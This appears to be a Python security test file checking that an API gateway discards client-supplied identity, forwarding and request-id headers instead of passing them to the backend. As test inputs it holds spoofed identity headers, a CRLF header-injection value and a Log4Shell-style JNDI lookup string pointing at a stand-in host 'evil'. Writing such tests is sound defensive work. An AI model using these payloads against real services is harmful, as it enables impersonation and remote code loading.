"""C: identity headers from outside, and where a request came from."""

import re
from typing import Any

from tests.attacks.gateway.field import ALICE, JOBS, Field, refused
from tests.attacks.gateway.table import named, row
from tests.attacks.table import NotMet

EVIL = "user_evil"
GOOD_STATUS = {200, 400}


def absent(field: Field, *lines: str, target: str = f"{JOBS}/v1/jobs", token: str = "TW") -> None:
    """The value never reaches the backend, and the person there is alice.

    Raises:
        NotMet: otherwise.
    """
    outcome = field.call(target, *lines, token=token)
    if outcome.status not in GOOD_STATUS:
        raise NotMet(f"{outcome.status}")
    if any(EVIL.encode() in arrived.head for arrived in outcome.arrived):
        raise NotMet("it reached the backend")
    if token and any(arrived.values("x-user-id") != [ALICE] for arrived in outcome.arrived):
        raise NotMet("the backend knows another user")


@row("C1", "X-User-Id of somebody else", expected="exactly one, the caller's")
def direct(field: Field, _case: Any) -> None:
    absent(field, f"X-User-Id: {EVIL}")


@row(
    "C2",
    "underscores for hyphens",
    expected="absent",
    cases=named("X_User_Id", "X-User_Id", "X_User-Id", "x_gateway_identity"),
)
def underscore(field: Field, name: str) -> None:
    absent(field, f"{name}: {EVIL}")


SEPARATORS = (
    "X.User.Id",
    "X~User~Id",
    "X!User!Id",
    "X'User'Id",
    "X`User`Id",
    "X*User+Id",
    "X|User|Id",
    "XUserId",
    "X--User-Id",
)


@row("C3", "other separators", expected="absent", cases=named(*SEPARATORS))
def separator(field: Field, name: str) -> None:
    absent(field, f"{name}: {EVIL}")


@row(
    "C4",
    "a claim the caller has no value of",
    expected="absent",
    cases=named("X-User-Email", "X-Org-Id", "X-Roles"),
)
def empty_claim(field: Field, name: str) -> None:
    absent(field, f"{name}: {EVIL}")


@row("C5", "X-User-Id on a public operation", expected="absent")
def public(field: Field, _case: Any) -> None:
    absent(field, f"X-User-Id: {EVIL}", target=f"{field.fault()}/a", token="")


FAMILY = ("X-User-Anything", "X-Gateway-Identity", "X-Gateway-X", "X-Auth-Request-User", "X-Forwarded-User",
          "X-Remote-User", "Remote-User", "X-Scopes", "X-Roles", "X-Authenticated-Userid", "X-Gpt-Clerk-User-Id",
          "X-Clerk-User-Id", "X-Client-Id", "X-Org-Id", "X-Tenant-Id", "X-Api-Key", "X-Forwarded-Groups",
          "X-Consumer-Id", "X-Auth-Token")  # fmt: skip


@row("C6", "names of the reserved families", expected="absent", cases=named(*FAMILY))
def family(field: Field, name: str) -> None:
    absent(field, f"{name}: {EVIL}")


OTHERS = ("Client-Cert", "X-SSL-Client-S-DN", "X-Amzn-Oidc-Data", "X-Goog-Authenticated-User-Email",
          "X-MS-Client-Principal-Name", "Cf-Access-Jwt-Assertion", "X-WebAuth-User", "X-Pomerium-Jwt-Assertion",
          "Tailscale-User-Login", "X-Consumer-Username", "Impersonate-User", "Proxy")  # fmt: skip


@row("C6b", "names by which other front servers say who calls", expected="absent", cases=named(*OTHERS))
def other_families(field: Field, name: str) -> None:
    absent(field, f"{name}: {EVIL}")


ORIGINS = ("X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Prefix", "X-Forwarded-Uri",
           "X-Forwarded-Port", "X-Real-IP", "Forwarded", "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Path",
           "CF-Connecting-IP", "True-Client-IP", "X-HTTP-Method-Override", "X-Host", "X-Original-Host")  # fmt: skip


@row(
    "C7",
    "where the request says it came from, and goes to",
    expected="ignored and rebuilt",
    cases=named(*ORIGINS),
)
def provenance(field: Field, name: str) -> None:
    absent(field, f"{name}: {EVIL}")


@row(
    "C7b",
    "the same as a way to another place",
    expected="the path decides alone",
    cases=named("X-Original-URL", "X-Rewrite-URL", "X-HTTP-Path"),
)
def steering(field: Field, name: str) -> None:
    refused(field.call(f"{JOBS}/v1/none", f"{name}: {JOBS}/v1/jobs"), 404)


DOUBLES = ("user_id=user_evil", "user_id=a&user_id=user_evil", "USER_ID=user_evil", "user%5Fid=user_evil")


@row("C10", "a user in the query", expected="the backend's user is the caller", cases=named(*DOUBLES))
def in_query(field: Field, query: str) -> None:
    if field.call(f"{JOBS}/v1/jobs?{query}").received.header("x-user-id") != ALICE:
        raise NotMet("the backend knows another user")


IDS = (
    "not a uuid",
    "00000000-0000-0000-0000-000000000000",
    "x" * 7000,
    "a%0d%0aX-User-Id: evil",
    "${jndi:ldap://evil}",
)


@row("C11", "X-Request-Id and traceparent of the client's making", expected="made anew", cases=named(*IDS))
def request_id(field: Field, value: str) -> None:
    received = field.call(f"{JOBS}/v1/jobs", f"X-Request-Id: {value}", f"traceparent: {value}").received
    if received.header("x-request-id") == value or not re.fullmatch(r"[0-9a-f-]{36}", received.header("x-request-id")):
        raise NotMet("the request id is the client's")
    if not re.fullmatch(r"00-[0-9a-f]{32}-[0-9a-f]{16}-0[01]", received.header("traceparent")):
        raise NotMet("the traceparent is the client's")
